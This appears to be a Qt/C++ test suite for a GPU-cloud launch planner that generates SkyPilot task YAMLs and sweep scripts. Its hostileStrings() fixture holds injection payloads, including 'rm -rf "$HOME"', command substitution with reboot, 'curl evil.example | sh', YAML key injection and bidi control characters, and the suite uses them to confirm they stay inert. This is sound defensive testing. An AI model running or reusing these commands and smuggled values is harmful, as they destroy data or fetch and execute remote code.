// Launch plans (models/launch, `gpufrontier-cli plan`): the task YAMLs parsed by PyYAML and checked field
// by field, every task of the bundled catalog checked against SkyPilot's catalogs, hostile offer strings,
// the sweep, and a measurement round trip (`measure --import` changes the projection).
#include "clirun.h"
#include "domain/gpucatalog.h"
#include "domain/provider.h"
#include "domain/workload.h"
#include "launch/launchplan.h"
#include "launch/measurementjson.h"
#include "launch/offerid.h"
#include "launch/yamltext.h"
#include "refresh/bundledsnapshot.h"
#include "testsupport.h"
#include "util/printable.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace gf;
using namespace gf::test;
using namespace Qt::StringLiterals;

namespace {

struct Checked
{
    int rc = -1;
    QJsonObject tasks; ///< file name -> parsed task
    QString problems;
};

/// Runs tests/support/check_skypilot_tasks.py over DIR: PyYAML parses every task, the catalogs check it.
Checked checkTasks(const QString &dir, bool catalog = true)
{
    Checked c;
    const QString python = QStandardPaths::findExecutable(u"python3"_s);
    if (python.isEmpty()) {
        c.problems = u"python3 is not installed (.ci/install-deps installs it)"_s;
        return c;
    }
    QStringList args{QStringLiteral(GF_SOURCE_DIR "/tests/support/check_skypilot_tasks.py"), dir,
                     QStringLiteral(GF_FIXTURES_DIR "/skypilot")};
    if (!catalog)
        args.append(u"--no-catalog"_s);
    QProcess p;
    p.start(python, args);
    if (!p.waitForFinished(240000)) {
        c.problems = u"check_skypilot_tasks.py did not finish"_s;
        return c;
    }
    c.rc = p.exitCode();
    c.problems = QString::fromUtf8(p.readAllStandardError());
    c.tasks = QJsonDocument::fromJson(p.readAllStandardOutput()).object();
    return c;
}

/// Fails the test with the checker's message when it could not parse or check (PyYAML missing: rc 3).
#define CHECK_TASKS(c)                                                                                       \
    do {                                                                                                     \
        if ((c).rc == 3 || (c).rc < 0)                                                                       \
            QFAIL(qPrintable(u"cannot check the YAML: "_s + (c).problems));                                  \
        if ((c).rc != 0)                                                                                     \
            QFAIL(qPrintable((c).problems.left(4000)));                                                      \
    } while (false)

QString readText(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return {};
    return QString::fromUtf8(f.readAll());
}

Offer offer(const QString &provider, const QString &type, const QString &region, const QString &zone,
            const QString &gpuId, double count, double price, std::optional<double> spot = std::nullopt)
{
    Offer o;
    o.provider = provider;
    o.instanceType = type;
    o.region = region;
    o.zone = zone;
    o.gpuId = gpuId;
    o.gpuRawName = gpuId;
    o.gpuCount = count;
    o.onDemandUsdH = price;
    o.spotUsdH = spot;
    return o;
}

/// Field by field: what the parsed YAML says equals the task the plan built.
void compareTask(const LaunchTask &t, const QJsonObject &y, bool legacy)
{
    QCOMPARE(y.value(u"name").toString(), t.name);
    QCOMPARE(y.value(u"num_nodes").toInt(), t.nodes);
    const QJsonObject r = y.value(u"resources").toObject();
    if (legacy) {
        QVERIFY(!r.contains(u"infra"));
        QCOMPARE(r.value(u"cloud").toString(), t.pin.cloud);
        QCOMPARE(r.value(u"region").toString(), t.pin.region);
        QCOMPARE(r.value(u"zone").toString(), t.pin.zone);
    } else {
        QString infra = t.pin.cloud;
        if (!t.pin.region.isEmpty())
            infra += u'/' + t.pin.region;
        if (!t.pin.zone.isEmpty())
            infra += u'/' + t.pin.zone;
        QCOMPARE(r.value(u"infra").toString(), infra);
    }
    QCOMPARE(r.value(u"instance_type").toString(), t.pin.instanceType);
    QCOMPARE(r.value(u"accelerators").toString(),
             u"%1:%2"_s.arg(t.pin.accelerator).arg(t.pin.acceleratorCount));
    QCOMPARE(r.value(u"use_spot").toBool(), t.spot);
    QCOMPARE(r.value(u"disk_size").toInt(), t.diskGb);
    QCOMPARE(r.contains(u"job_recovery"), t.spot);
    const QJsonObject envs = y.value(u"envs").toObject();
    QCOMPARE(envs.size(), t.envs.size());
    for (const auto &[k, v] : t.envs)
        QCOMPARE(envs.value(k).toString(), v);
    QCOMPARE(envs.value(u"GF_INSTANCE_TYPE").toString(), t.offer.instanceType);
    QCOMPARE(envs.value(u"GF_REGION").toString(), t.offer.region);
    QCOMPARE(y.value(u"setup").toString(), t.setup);
    QCOMPARE(y.value(u"run").toString(), t.run);
}

QStringList hostileStrings()
{
    return {u"us-east-1\"; rm -rf \"$HOME\" #"_s,
            u"$(touch /tmp/gf-pwned)`reboot`"_s,
            u"it's '; curl evil.example | sh; '"_s,
            u"line1\nrun: rm -rf /\nsetup: |\n  reboot"_s,
            u"a: b # c\r\n- [x, {y: z}] & *alias !tag %25 %2F/ \\ \t end"_s,
            u"nel\u0085ls\u2028sep\u2029\u00e9\u4e2d\U0001F600\u0007bell"_s,
            u"--- \n... \n'\"\\x41"_s,
            u"\u202egnp.exe\u2066iso\u2069\u200f\u061c\u202aend"_s};
}

QString benignRun;
QString benignSetup;

} // namespace

class TestLaunchPlan final : public QObject
{
    Q_OBJECT
private:
    TempDb m_db;

private Q_SLOTS:
    void initTestCase()
    {
        // The checker must run here: a missing PyYAML fails clearly instead of skipping.
        QTemporaryDir dir;
        LaunchOptions o;
        auto plan = buildLaunchPlan(builtinWorkloads().first(),
                                    {{offer(u"aws"_s, u"p4d.24xlarge"_s, u"us-east-1"_s, u"use1-az2"_s,
                                            u"a100-40gb-sxm4"_s, 8, 21.96),
                                      false, std::nullopt}},
                                    o);
        QVERIFY2(plan, qPrintable(plan ? QString() : plan.error().text()));
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        benignRun = plan.value().tasks.first().run;
        benignSetup = plan.value().tasks.first().setup;
    }

    void offerIdRoundTrip()
    {
        for (const QString &h : hostileStrings()) {
            for (bool spot : {false, true}) {
                const Offer o = offer(u"vastai"_s, h, h + u"/x:y"_s, h.left(5), u"h100-80gb-sxm"_s, 1, 2.0);
                const QString id = offerIdText(o, spot);
                auto parsed = parseOfferId(id);
                QVERIFY2(parsed, qPrintable(id));
                QCOMPARE(parsed.value().provider, u"vastai"_s);
                QCOMPARE(parsed.value().instanceType, h);
                QCOMPARE(parsed.value().region, h + u"/x:y"_s);
                QCOMPARE(parsed.value().zone, h.left(5));
                QCOMPARE(parsed.value().spot, spot);
                QCOMPARE(matchOffers({o}, parsed.value()).size(), 1);
            }
        }
        QVERIFY(!parseOfferId(u"aws/p4d.24xlarge"_s));
        QVERIFY(!parseOfferId(u"aws//us-east-1"_s));
        QVERIFY(!parseOfferId(u"aws/a/b/c/d"_s));
    }

    void diskAndNames()
    {
        Workload w = builtinWorkloads().first();
        w.datasetGb = 0;
        w.pretrainedWeightsGb = 0;
        QCOMPARE(diskSizeGb(w), 256);
        w.datasetGb = 154.6;
        QCOMPARE(diskSizeGb(w), 380); // 2 x 154.6 + 64 = 373.2 -> 380
        w.id = u"My Workload \"x\"; rm"_s;
        QCOMPARE(taskName(w, 3), u"gf-my-workload-x-rm-3"_s);
    }

    // Every offer of the bundled catalog that SkyPilot can launch, on-demand and spot: the YAML parses,
    // says exactly what the plan built, and names what SkyPilot's own catalogs list.
    void bundledCatalogAgainstSkyPilot_data()
    {
        QTest::addColumn<bool>("legacy");
        QTest::newRow("infra") << false;
        QTest::newRow("legacy keys") << true;
    }
    void bundledCatalogAgainstSkyPilot()
    {
        QFETCH(bool, legacy);
        auto store = m_db.open();
        QVERIFY(importBundledIfEmpty(*store, GpuCatalog::builtin()));
        auto offers = store->currentOffers();
        QVERIFY(offers);
        // Every offer with the infra key; with the legacy keys one per (provider, instance type, mode).
        QList<LaunchCandidate> candidates;
        QSet<QString> seen;
        for (const Offer &o : offers.value()) {
            for (bool spot : {false, true}) {
                if (spot && !o.spotUsdH)
                    continue;
                const QString key = o.provider + u'/' + o.instanceType + (spot ? u":spot"_s : QString());
                if (legacy && seen.contains(key))
                    continue;
                seen.insert(key);
                candidates.append({o, spot, std::nullopt});
            }
        }
        LaunchOptions lo;
        lo.legacyKeys = legacy;
        lo.probe = true;
        const Workload *resnet = findWorkload(builtinWorkloads(), u"resnet50"_s);
        QVERIFY(resnet);
        auto plan = buildLaunchPlan(*resnet, candidates, lo);
        QVERIFY(plan);
        // Skipped: only fractional GPUs (AWS g6f/gr6f), GPUs SkyPilot does not name, and repeats of a task
        // (the AWS zones of a region: SkyPilot pins the region only).
        int repeats = 0;
        for (const QString &s : plan.value().skipped) {
            QVERIFY2(s.contains(u"whole GPUs"_s) || s.contains(u"not recognised"_s) ||
                         s.contains(u"the same SkyPilot task as"_s),
                     qPrintable(s));
            repeats += s.contains(u"the same SkyPilot task as"_s) ? 1 : 0;
        }
        // Two zones of one region are one task (the legacy candidates above are one per instance type).
        QVERIFY(legacy || repeats > 0);
        QVERIFY2(plan.value().tasks.size() > (legacy ? 150 : 800),
                 qPrintable(QString::number(plan.value().tasks.size())));
        QSet<QString> clouds;
        for (const LaunchTask &t : plan.value().tasks)
            clouds.insert(t.pin.cloud);
        // Every provider of the table has launchable bundled offers, under SkyPilot's name for its cloud.
        QSet<QString> expected;
        for (const ProviderInfo &p : providers())
            expected.insert(p.skypilotCloud);
        QCOMPARE(clouds, expected);
        QTemporaryDir dir;
        auto written = writeLaunchPlan(plan.value(), dir.path());
        QVERIFY(written);
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QCOMPARE(c.tasks.size(), plan.value().tasks.size());
        for (const LaunchTask &t : plan.value().tasks)
            compareTask(t, c.tasks.value(t.fileName).toObject(), legacy);
    }

    // Offer strings never reach a shell line: they live in envs (quoted YAML scalars) and comments only.
    void hostileStringsStayData()
    {
        QList<LaunchCandidate> candidates;
        for (const QString &h : hostileStrings()) {
            candidates.append(
                {offer(u"gcp"_s, h, h, h, u"a100-40gb-sxm4"_s, 1, 3.0, 1.0), true, std::nullopt});
            candidates.append(
                {offer(u"azure"_s, h + u"-2"_s, h, QString(), u"t4"_s, 1, 1.0), false, std::nullopt});
        }
        LaunchOptions lo;
        lo.sweep = true;
        lo.probe = true;
        lo.runCommand = u"python train.py --epochs 1 # user's own command"_s;
        Workload w = builtinWorkloads().first();
        w.id = hostileStrings().at(3);
        auto plan = buildLaunchPlan(w, candidates, lo);
        QVERIFY(plan);
        QCOMPARE(plan.value().tasks.size(), candidates.size());
        QTemporaryDir dir;
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const Checked c = checkTasks(dir.path(), false);
        CHECK_TASKS(c);
        const QSet<QString> keys{u"name"_s,        u"num_nodes"_s, u"resources"_s, u"envs"_s,
                                 u"file_mounts"_s, u"setup"_s,     u"run"_s};
        for (const LaunchTask &t : plan.value().tasks) {
            const QJsonObject y = c.tasks.value(t.fileName).toObject();
            const QStringList k = y.keys();
            QCOMPARE(QSet<QString>(k.begin(), k.end()), keys); // nothing injected
            compareTask(t, y, t.pin.region.contains(u'/'));
            // Same fixed text for every offer.
            QCOMPARE(y.value(u"run").toString(), plan.value().tasks.first().run);
            QCOMPARE(y.value(u"setup").toString(), plan.value().tasks.first().setup);
        }
        const QString shellText = plan.value().tasks.first().run + plan.value().tasks.first().setup +
                                  readText(dir.filePath(u"sweep.sh"_s));
        for (const QString &h : hostileStrings())
            for (const QString &piece : {h.left(6), h.right(6)})
                QVERIFY2(!shellText.contains(piece), qPrintable(piece));
        QVERIFY(!shellText.contains(u"rm -rf"_s));
        QVERIFY(!shellText.contains(u"reboot"_s));
        QVERIFY(!shellText.contains(u"train.py"_s)); // the user's command too: only through $GF_USER_CMD
        // README: every command line is generated; hostile text only inside lines that are not commands.
        const QString readme = readText(dir.filePath(u"README.txt"_s));
        for (const QString &line : readme.split(u'\n'))
            if (line.contains(u"sky "_s) || line.contains(u"rsync"_s))
                for (const QString &h : hostileStrings())
                    for (const QString &piece : {h.left(6), h.right(6)})
                        QVERIFY2(!line.contains(piece), qPrintable(line));
        // Issue 18 item 5: no control or bidi character in the README or a YAML comment, where a
        // reader (or a terminal) would see reordered or hidden text.
        for (const QString &line : readme.split(u'\n'))
            QVERIFY2(!hasUnprintable(line), qPrintable(line));
        for (const LaunchTask &t : plan.value().tasks)
            for (const QString &line : readText(dir.filePath(t.fileName)).split(u'\n'))
                if (line.startsWith(u'#'))
                    QVERIFY2(!hasUnprintable(line), qPrintable(line));
        // sweep.sh parses as bash.
        const QString bash = QStandardPaths::findExecutable(u"bash"_s);
        if (!bash.isEmpty()) {
            QProcess p;
            p.start(bash, {u"-n"_s, dir.filePath(u"sweep.sh"_s)});
            QVERIFY(p.waitForFinished());
            QCOMPARE(p.exitCode(), 0);
        }
    }

    // Comments and the README follow util/printable.h's one rule, bidi overrides and isolates included.
    void commentTextIsPrintable()
    {
        QCOMPARE(yamlCommentText(u"a\u202eb\u2066c\u2067d\u2068e\u2069f\u200eg\u061ch"_s),
                 u"a?b?c?d?e?f?g?h"_s);
        QCOMPARE(yamlCommentText(u"x\ny\u0007z\u001b[31m\u0085\u2028\ufeff"_s), u"x?y?z?[31m???"_s);
        QCOMPARE(yamlCommentText(u"\u6771\u4eac, JP \u00e9"_s), u"\u6771\u4eac, JP \u00e9"_s);
        for (char16_t c = 0; c < 0x3000; ++c)
            if (isUnprintableChar(c))
                QCOMPARE(yamlCommentText(QString(QChar(c))), u"?"_s);
    }

    void cliPlanTop()
    {
        QTemporaryDir dir;
        const CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--top"_s, u"3"_s,
                                           u"-o"_s, dir.path()});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        QVERIFY(QFile::exists(dir.filePath(u"README.txt"_s)));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QCOMPARE(c.tasks.size(), 3);
        const QString readme = readText(dir.filePath(u"README.txt"_s));
        QVERIFY(readme.contains(u"COST CEILING: "_s));
        QVERIFY(readme.contains(u"sky launch -c gf-resnet50-1 gf-resnet50-1.yaml"_s) ||
                readme.contains(u"sky jobs launch -n gf-resnet50-1 gf-resnet50-1.yaml"_s));
        QVERIFY(readme.contains(u"measure --import"_s));
        // The ID printed in the table plans the same offer again.
        const QJsonObject first = c.tasks.value(u"gf-resnet50-1.yaml"_s).toObject();
        const QString id = first.value(u"envs").toObject().value(u"GF_OFFER_ID").toString();
        QTemporaryDir again;
        const CliRun r2 = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s, id,
                                            u"--skypilot-legacy"_s, u"-o"_s, again.path()});
        QVERIFY2(r2.rc == 0, qPrintable(r2.err));
        const Checked c2 = checkTasks(again.path());
        CHECK_TASKS(c2);
        const QJsonObject res1 = first.value(u"resources").toObject();
        const QJsonObject res2 =
            c2.tasks.value(u"gf-resnet50-1.yaml"_s).toObject().value(u"resources").toObject();
        QCOMPARE(res2.value(u"instance_type"), res1.value(u"instance_type"));
        QCOMPARE(res2.value(u"accelerators"), res1.value(u"accelerators"));
        QCOMPARE(res2.value(u"use_spot"), res1.value(u"use_spot"));
        QVERIFY(res2.contains(u"cloud"));
        if (res1.value(u"use_spot").toBool())
            QVERIFY(readme.contains(u"sky jobs launch"_s));
    }

    void cliPlanErrors()
    {
        QTemporaryDir dir;
        CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s,
                                     u"aws/no-such-type/us-east-1"_s, u"-o"_s, dir.path()});
        QCOMPARE(r.rc, 1);
        QVERIFY2(r.err.contains(u"no current offer is aws/no-such-type/us-east-1"_s), qPrintable(r.err));
        r = cli(m_db.path(),
                {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s, u"aws/x"_s, u"-o"_s, dir.path()});
        QCOMPARE(r.rc, 2);
        QVERIFY2(r.err.contains(u"provider/instance_type/region"_s), qPrintable(r.err));
        r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--top"_s, u"2"_s, u"--offer"_s,
                              u"aws/a/b"_s, u"-o"_s, dir.path()});
        QCOMPARE(r.rc, 2);
        r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s});
        QCOMPARE(r.rc, 2);
        QVERIFY(r.err.contains(u"-o DIR"_s));
    }

    void cliSweep()
    {
        QTemporaryDir dir;
        // Issue 16: a sweep measures the probe and a short timed run, without --probe.
        const CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"gpt2-124m"_s, u"--sweep"_s,
                                           u"--top"_s, u"4"_s, u"-o"_s, dir.path()});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QVERIFY(c.tasks.size() >= 1 && c.tasks.size() <= 4);
        QSet<QString> offers;
        for (const QJsonValue &v : c.tasks) {
            const QJsonObject t = v.toObject();
            QVERIFY(!offers.contains(t.value(u"envs").toObject().value(u"GF_OFFER_KEY").toString()));
            offers.insert(t.value(u"envs").toObject().value(u"GF_OFFER_KEY").toString());
            QVERIFY(t.value(u"run").toString().contains(u"gf_measure.py"_s));
            QVERIFY(t.value(u"file_mounts").toObject().size() == 2); // package + gf_measure.py
            QCOMPARE(t.value(u"envs").toObject().value(u"GF_PROBE").toString(), u"1"_s);
            QVERIFY(t.value(u"setup").toString().contains(u"gpufrontier.tar.gz"_s));
        }
        QVERIFY(readText(dir.filePath(u"README.txt"_s)).contains(u"runs gpufrontier-probe --quick"_s));
        QVERIFY2(r.out.contains(u"GPU Frontier's package"_s), qPrintable(r.out)); // the package note
        // --package goes with a sweep too.
        QTemporaryDir dir2;
        const QString package = dir2.filePath(u"gpufrontier-test.tar.gz"_s);
        {
            QFile f(package);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("not really a package");
        }
        const CliRun withPackage =
            cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"gpt2-124m"_s, u"--sweep"_s, u"--top"_s, u"1"_s,
                              u"--package"_s, package, u"-o"_s, dir2.filePath(u"plan"_s)});
        QVERIFY2(withPackage.rc == 0, qPrintable(withPackage.err));
        const QString sweep = readText(dir.filePath(u"sweep.sh"_s));
        QVERIFY(sweep.contains(u"sky launch -y -c"_s));
        QVERIFY(sweep.contains(u"sky down -y"_s));
        QVERIFY(QFileInfo(dir.filePath(u"sweep.sh"_s)).isExecutable());
        // The measurement script is valid Python.
        const QString python = QStandardPaths::findExecutable(u"python3"_s);
        QVERIFY(!python.isEmpty());
        QProcess p;
        p.start(python, {u"-c"_s, u"import ast,sys; ast.parse(open(sys.argv[1]).read())"_s,
                         dir.filePath(u"gf_measure.py"_s)});
        QVERIFY(p.waitForFinished());
        QVERIFY2(p.exitCode() == 0, p.readAllStandardError().constData());
    }

    // A sweep's JSON (as gf_measure.py writes it) imported: the projection of that workload on that GPU
    // now uses the measurement and says so.
    void importRoundTrip()
    {
        TempDb db;
        auto frontier = [&](bool useMeasurements) {
            QStringList args{u"frontier"_s,    u"--workload"_s, u"resnet50"_s,
                             u"--on-demand"_s, u"--format"_s,   u"json"_s};
            if (!useMeasurements)
                args.append(u"--no-measurements"_s);
            const CliRun r = cli(db.path(), args);
            if (r.rc != 0)
                qWarning("%s", qPrintable(r.err));
            return QJsonDocument::fromJson(r.out.toUtf8()).object().value(u"points").toArray();
        };
        auto singleH100 = [](const QJsonArray &points) {
            for (const QJsonValue &v : points) {
                const QJsonObject p = v.toObject();
                if (p.value(u"gpu").toString() == u"h100-80gb-sxm" && p.value(u"gpu_count").toDouble() == 1 &&
                    p.value(u"nodes").toInt() == 1 && p.value(u"projected").toBool())
                    return p;
            }
            return QJsonObject();
        };
        const QJsonObject before = singleH100(frontier(true));
        QVERIFY(!before.isEmpty());
        const double modelled = before.value(u"samples_per_s").toDouble();
        QVERIFY(!before.value(u"flags").toArray().contains(u"measured"_s));

        const double measured = modelled * 0.6;
        QJsonObject doc{{u"schema"_s, u"gpufrontier-measurement"_s},
                        {u"schema_version"_s, 1},
                        {u"task"_s, u"gf-resnet50-1"_s},
                        {u"workload"_s, u"resnet50"_s},
                        {u"gpu_id"_s, u"h100-80gb-sxm"_s},
                        {u"gpu_count"_s, 8},
                        {u"method"_s, u"synthetic"_s},
                        {u"samples_per_s"_s, measured * 8},
                        {u"samples_per_s_per_gpu"_s, measured},
                        {u"batch_per_gpu"_s, 192},
                        {u"precision"_s, u"fp16"_s},
                        {u"measured_at"_s, u"2026-11-20T10:00:00Z"_s},
                        {u"offer"_s, QJsonObject{{u"id"_s, u"aws/p5.48xlarge/us-east-1"_s},
                                                 {u"key"_s, u"aws/p5.48xlarge/us-east-1"_s}}}};
        QTemporaryDir dir;
        const QString file = dir.filePath(u"gf-resnet50-1.json"_s);
        {
            QFile f(file);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(QJsonDocument(doc).toJson());
        }
        CliRun r = cli(db.path(), {u"measure"_s, u"--import"_s, file});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        QVERIFY(r.out.contains(u"1 new, 0 already stored"_s));
        // The same document again, inside a job log: stored once.
        const QString log = dir.filePath(u"job.log"_s);
        {
            QFile f(log);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("setup...\n(task, pid=1) GPUFRONTIER-MEASUREMENT " +
                    QJsonDocument(doc).toJson(QJsonDocument::Compact) + "\ndone\n");
        }
        r = cli(db.path(), {u"measure"_s, u"--import"_s, log});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        QVERIFY2(r.out.contains(u"0 new, 1 already stored"_s), qPrintable(r.out));

        const QJsonObject after = singleH100(frontier(true));
        QVERIFY(!after.isEmpty());
        QVERIFY(qAbs(after.value(u"samples_per_s").toDouble() - measured) < 1e-6 * measured);
        QVERIFY(after.value(u"flags").toArray().contains(u"measured"_s));
        QVERIFY(after.value(u"total_h").toDouble() > before.value(u"total_h").toDouble());
        // --no-measurements: the model again.
        const QJsonObject ignored = singleH100(frontier(false));
        QCOMPARE(ignored.value(u"samples_per_s").toDouble(), modelled);

        // The list: measured beside projected, error of the model = (modelled - measured) / measured.
        r = cli(db.path(), {u"measure"_s, u"--format"_s, u"json"_s});
        QCOMPARE(r.rc, 0);
        const QJsonArray list =
            QJsonDocument::fromJson(r.out.toUtf8()).object().value(u"measurements").toArray();
        QCOMPARE(list.size(), 1);
        const QJsonObject m = list.first().toObject();
        QCOMPARE(m.value(u"gpu_id").toString(), u"h100-80gb-sxm"_s);
        // The model's GPU speed, before the input pipeline's cap (issue 13) that the frontier point has.
        const double gpuModel = m.value(u"projected_samples_per_s_per_gpu").toDouble();
        QVERIFY2(gpuModel >= modelled * (1 - 1e-9), qPrintable(u"%1 vs %2"_s.arg(gpuModel).arg(modelled)));
        QVERIFY(qAbs(m.value(u"error_pct").toDouble() - (gpuModel - measured) / measured * 100) < 0.01);

        // A bad file stores nothing and says why.
        const QString bad = dir.filePath(u"bad.json"_s);
        {
            QFile f(bad);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(R"({"schema": "gpufrontier-measurement", "schema_version": 1, "workload": "resnet50",
                       "gpu_id": "no-such-gpu", "samples_per_s": 10})");
        }
        r = cli(db.path(), {u"measure"_s, u"--import"_s, bad});
        QCOMPARE(r.rc, 1);
        QVERIFY2(r.err.contains(u"no-such-gpu"_s), qPrintable(r.err));

        r = cli(db.path(), {u"measure"_s, u"--delete"_s, QString::number(m.value(u"id").toInteger())});
        QCOMPARE(r.rc, 0);
        QCOMPARE(singleH100(frontier(true)).value(u"samples_per_s").toDouble(), modelled);
    }
};

QTEST_GUILESS_MAIN(TestLaunchPlan)
#include "test_launchplan.moc"
